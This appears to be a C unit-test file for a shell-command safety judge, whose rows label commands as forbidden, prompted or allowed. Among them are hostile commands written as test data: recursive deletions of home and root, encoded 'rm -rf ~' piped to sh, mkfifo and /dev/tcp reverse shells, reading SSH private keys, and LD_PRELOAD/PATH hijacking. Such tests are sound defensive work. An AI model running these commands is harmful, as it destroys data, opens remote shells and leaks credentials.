@@ -1,0 +1,162 @@
+/* SPDX-License-Identifier: MIT */
+/*
+ * The walker against who wants a harmless answer: variables set by ways round, text from elsewhere
+ * that is evaluated, lists of files that are fed to something, filters and pipes with names.
+ */
+#include "judge_rows.h"
+
+static void
+asks_about_a_variable_that_programs_act_on_however_it_is_set(void **state)
+{
+	static const struct row rows[] = {
+		{ "declare -n p=PATH; p=/tmp; ls", P, "environment.loads" },
+		{ "(( PATH=5 )); ls", P, "environment.loads" },
+		{ "let PATH=5; ls", P, "environment.loads" },
+		{ "echo $(( PATH = 5 ))", P, "environment.loads" },
+		{ ": ${LD_PRELOAD:=./x.so}; ls", P, "environment.loads" },
+		{ "mapfile -t PATH < f; ls", P, "environment.loads" },
+		{ "exec {PATH}<f; ls", P, "environment.loads" },
+		{ "coproc PATH { cat; }; ls", P, "environment.loads" },
+		{ "BASH_CMDS[ls]=/tmp/x; ls", P, "environment.loads" },
+		{ "unset PATH; ls", P, "" },
+		{ "unset -v PATH; ls", P, "" },
+		{ "set +o history", P, "builtin.option" },
+		{ "declare -n p=LC_ALL; p=C; ls", A, "" },
+		{ "PATH=/usr/bin:/bin ls", A, "" },
+		{ "PAGER=cat git log", A, "" },
+		{ "x=1; let x=x+1; echo $x", A, "" },
+	};
+
+	(void)state;
+	CHECK(rows);
+}
+
+static void
+asks_about_text_from_elsewhere_that_is_evaluated(void **state)
+{
+	static const struct row rows[] = {
+		{ "[[ $(cat f) -eq 0 ]]", P, "arithmetic.foreign" },
+		{ "echo $(( $(cat f) ))", P, "arithmetic.foreign" },
+		{ "read x < f; (( x ))", P, "arithmetic.foreign" },
+		{ "read x < f; [[ $x -gt 1 ]]", P, "arithmetic.foreign" },
+		{ "mapfile -t a < f; echo $((a[0]))", P, "arithmetic.foreign" },
+		{ "x=$(git log -1 --format=%s); (( x ))", P, "arithmetic.foreign" },
+		{ "x=$(cat f); echo ${!x}", P, "arithmetic.foreign" },
+		{ "x=$(cat f); echo ${y:x:1}", P, "arithmetic.foreign" },
+		{ "echo ${y[$(cat f)]}", P, "arithmetic.foreign" },
+		{ "y[$(cat f)]=1", P, "arithmetic.foreign" },
+		{ "x=$(cat f); declare -i z=$x", P, "arithmetic.foreign" },
+		{ "[[ -v $(cat f) ]]", P, "arithmetic.foreign" },
+		{ "declare -n r=$(cat f); echo $r", P, "" },
+		{ "[[ $(wc -l < f) -gt 3 ]]", A, "" },
+		{ "echo $(( $(date +%s) - 5 ))", A, "" },
+		{ "n=$(grep -c x f); (( n > 0 )) && echo y", A, "" },
+		{ "[ \"$(cat f)\" -eq 0 ]", A, "" },
+		{ "[[ $# -gt 0 && $? -eq 0 ]]", A, "" },
+		{ "n=0; while [ $n -lt 3 ]; do n=$((n+1)); done", A, "" },
+	};
+
+	(void)state;
+	CHECK(rows);
+}
+
+static void
+knows_where_listed_files_are(void **state)
+{
+	static const struct row rows[] = {
+		{ "find ~ | xargs rm -rf", F, "delete-tree.root" },
+		{ "find / -type f -print0 | xargs -0 rm -f", F, "delete.root" },
+		{ "find . | xargs rm -rf", F, "delete-tree.workspace-top" },
+		{ "find ~ -name '*.log' | xargs -I{} rm -rf {}", F, "delete-tree.root" },
+		{ "rm -rf $(find ~)", F, "delete-tree.root" },
+		{ "for f in $(find ~ -type f); do rm -rf $f; done", F, "delete-tree.root" },
+		{ "find ~ | head -5 | xargs rm", F, "delete.root" },
+		{ "find ~/.ssh -type f | xargs cat", F, "read.secret" },
+		{ "find / | xargs chmod 777", F, "change-mode.root" },
+		{ "ls -d ~/* | xargs rm -rf", F, "delete-tree.root" },
+		{ "ls -d /etc/* | xargs rm -rf", F, "delete-tree.system" },
+		{ "find . -name '*.pyc' | xargs rm", P, "delete.unknown" },
+		{ "find build | xargs rm -rf", P, "" },
+		{ "find . -printf '/%p\\n' | xargs rm", P, "" },
+		{ "x=$(find . -name x); rm -rf \"$x\"", P, "" },
+		{ "find . -name '*.c' | xargs wc -l", A, "" },
+		{ "grep foo $(find src -type f)", A, "" },
+		{ "ls $x", A, "" },
+	};
+
+	(void)state;
+	CHECK(rows);
+}
+
+static void
+follows_what_filters_and_wrappers_let_through(void **state)
+{
+	static const struct row rows[] = {
+		{ "nohup base64 -d <<< cm0gLXJmIH4= | sh", F, "delete-tree.root" },
+		{ "sudo base64 -d <<< cm0gLXJmIH4= | sh", F, "delete-tree.root" },
+		{ "grep rm <<< 'rm -rf ~' | sh", F, "delete-tree.root" },
+		{ "dd <<< 'rm -rf ~' | sh", F, "delete-tree.root" },
+		{ "fmt <<< 'rm -rf ~' | sh", F, "delete-tree.root" },
+		{ "iconv -t utf8 <<< 'rm -rf ~' | sh", F, "delete-tree.root" },
+		{ "echo 'rm -rf /' | grep rm", A, "" },
+		{ "cd /bin; ./rm -rf ~", F, "delete-tree.root" },
+		{ "cd /bin; ./ls", A, "" },
+		{ "./ls", P, "" },
+	};
+
+	(void)state;
+	CHECK(rows);
+}
+
+static void
+sees_a_shell_behind_a_named_pipe(void **state)
+{
+	static const struct row rows[] = {
+		{ "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc h 1 > /tmp/f", F, "" },
+		{ "mkfifo f; cat f | /bin/sh | openssl s_client -connect h:1 > f", F, "" },
+		{ "mkfifo f; tail -f f | bash | telnet h 1 > f", F, "" },
+		{ "exec 196<>/dev/tcp/h/1; sh <&196 >&196", F, "" },
+		{ "cat f | sh | nc h 1", P, "" },
+		{ "mkfifo f; cat f", P, "" },
+	};
+
+	(void)state;
+	CHECK(rows);
+}
+
+static void
+tells_the_halves_of_a_key_apart(void **state)
+{
+	static const struct row rows[] = {
+		{ "cat ~/.ssh/id_rsa", F, "read.secret" },
+		{ "ls ~/.ssh/*.pub", P, "list.private" },
+		{ "cat ~/.ssh/id_rsa ~/.ssh/id_rsa.pub", F, "read.secret" },
+		{ "cat ~/.ssh/id_rsa*", F, "read.secret" },
+		{ "cat ~/.ssh/x.pub/../id_rsa", F, "read.secret" },
+		{ "cat ~/.ssh/id_rsa.pub", P, "read.private" },
+		{ "cat ~/.ssh/*.pub", P, "read.private" },
+		{ "ip l s eth0 down", P, "network.changes-settings" },
+		{ "ip link se eth0 down", P, "network.changes-settings" },
+		{ "ip l", A, "" },
+		{ "ip link sh", A, "" },
+		{ "ip a s", A, "" },
+	};
+
+	(void)state;
+	CHECK(rows);
+}
+
+int
+main(void)
+{
+	const struct CMUnitTest tests[] = {
+		cmocka_unit_test(asks_about_a_variable_that_programs_act_on_however_it_is_set),
+		cmocka_unit_test(asks_about_text_from_elsewhere_that_is_evaluated),
+		cmocka_unit_test(knows_where_listed_files_are),
+		cmocka_unit_test(follows_what_filters_and_wrappers_let_through),
+		cmocka_unit_test(sees_a_shell_behind_a_named_pipe),
+		cmocka_unit_test(tells_the_halves_of_a_key_apart),
+	};
+
+	return cmocka_run_group_tests(tests, NULL, NULL);
+}
